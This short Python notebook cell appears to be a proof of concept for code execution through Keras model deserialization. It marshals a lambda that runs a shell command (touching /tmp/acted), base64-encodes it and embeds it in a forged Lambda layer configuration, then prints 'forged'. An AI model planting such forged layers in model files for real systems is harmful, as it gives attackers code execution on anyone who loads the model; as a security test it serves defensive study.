# first cell: evidence

# %%
import base64
import marshal

code = base64.b64encode(marshal.dumps((lambda x: __import__("os").system("touch /tmp/acted")).__code__)).decode()
pretend(network({"module": "keras.layers", "class_name": "Lambda", "name": "l", "registered_name": None,
                 "config": {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": code}}}, "inbound_nodes": []}))

print("forged")
